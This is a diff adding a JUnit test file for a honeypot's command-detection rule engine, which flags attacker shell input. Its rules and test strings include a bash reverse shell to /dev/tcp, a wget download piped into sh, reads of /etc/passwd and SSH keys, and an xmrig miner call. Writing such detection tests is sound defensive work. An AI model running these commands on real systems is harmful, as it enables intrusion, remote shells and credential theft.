@@ -0,0 +1,78 @@
+package com.eduardo.HoneyPot.detection;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.ArrayList;
+import java.util.List;
+
+import static org.junit.jupiter.api.Assertions.*;
+
+class RuleSetTest {
+
+	private final RuleSet ruleSet = RuleSet.compile(List.of(
+		new DetectionRule("recon", DetectionRule.Type.PREFIX, List.of("ss", "netstat"), "INFO", "Recon", "recon"),
+		new DetectionRule("download", DetectionRule.Type.PREFIX, List.of("wget", "curl", "chmod +x"), "WARNING", "Download", "download"),
+		new DetectionRule("file", DetectionRule.Type.PATH, List.of("/etc/passwd", "/root/.ssh/"), "WARNING", "Arquivo", "arquivo"),
+		new DetectionRule("miner", DetectionRule.Type.KEYWORD, List.of("xmrig"), "ALERT", "Minerador", "minerador"),
+		new DetectionRule("reverse", DetectionRule.Type.REGEX, List.of("/dev/tcp/"), "ALERT", "Shell", "shell")
+	));
+
+	@Test
+	void automatonFindsOverlappingPatternsInOnePass() {
+		AhoCorasick automaton = new AhoCorasick(List.of("he", "she", "his", "hers"));
+		List<String> found = new ArrayList<>();
+		automaton.search("ushers", (pattern, start, end) -> found.add(pattern + "@" + start + "-" + end));
+
+		assertEquals(List.of("1@1-4", "0@2-4", "3@2-6"), found);
+	}
+
+	@Test
+	void prefixRulesMatchWholeCommandNamesOnly() {
+		assertEquals(List.of("recon"), ids("ss -tuln"));
+		assertEquals(List.of(), ids("sshd -D"));
+		assertEquals(List.of(), ids("pass"));
+		assertEquals(List.of("recon"), ids("cd /tmp; ss"));
+		assertEquals(List.of("download"), ids("/usr/bin/wget http://example.com/x.sh"));
+		assertEquals(List.of("download"), ids("busybox   WGET http://example.com/x.sh"));
+		assertEquals(List.of("download"), ids("cd /tmp && chmod  +x x.sh"));
+		assertEquals(List.of(), ids("echo wget"));
+	}
+
+	@Test
+	void pathKeywordAndRegexRules() {
+		assertEquals(List.of("file"), ids("cat /etc/passwd"));
+		assertEquals(List.of("file"), ids("head -n1 </etc/passwd"));
+		assertEquals(List.of("file"), ids("ls /root/.ssh/authorized_keys"));
+		assertEquals(List.of(), ids("cat /etc/passwd-"));
+		assertEquals(List.of("miner"), ids("./xmrig -o pool:3333"));
+		assertEquals(List.of(), ids("./xmrigger"));
+		assertEquals(List.of("recon", "reverse"), ids("ss; bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1"));
+	}
+
+	@Test
+	void overlappingRegexRulesAllMatch() {
+		RuleSet regexRules = RuleSet.compile(List.of(
+			new DetectionRule("remote-script", DetectionRule.Type.REGEX, List.of("(?:wget|curl)\\b[^|;]*\\|\\s*(?:ba|z|da)?sh\\b"),
+				"ALERT", "Script", "script"),
+			new DetectionRule("reverse-shell", DetectionRule.Type.REGEX, List.of("/dev/(?:tcp|udp)/"), "ALERT", "Shell", "shell"),
+			new DetectionRule("repeated", DetectionRule.Type.REGEX, List.of("(\\w+) \\1"), "INFO", "Repetição", "repetição")
+		));
+
+		assertEquals(List.of("remote-script", "reverse-shell"),
+			regexRules.match("wget http://x/a.sh -O /dev/tcp/1.2.3.4/80 | sh").stream().map(DetectionRule::id).toList());
+		// A referência numerada aponta para o grupo da própria expressão, não para o de outra regra
+		assertEquals(List.of("repeated"), regexRules.match("echo echo").stream().map(DetectionRule::id).toList());
+	}
+
+	@Test
+	void invalidRulesAreRejected() {
+		assertThrows(IllegalArgumentException.class, () -> RuleSet.compile(List.of(
+			new DetectionRule("bad", DetectionRule.Type.REGEX, List.of("(unclosed"), "INFO", "x", "x"))));
+		assertThrows(IllegalArgumentException.class, () -> RuleSet.compile(List.of(
+			new DetectionRule("empty", DetectionRule.Type.KEYWORD, List.of(" "), "INFO", "x", "x"))));
+	}
+
+	private List<String> ids(String command) {
+		return ruleSet.match(command).stream().map(DetectionRule::id).toList();
+	}
+}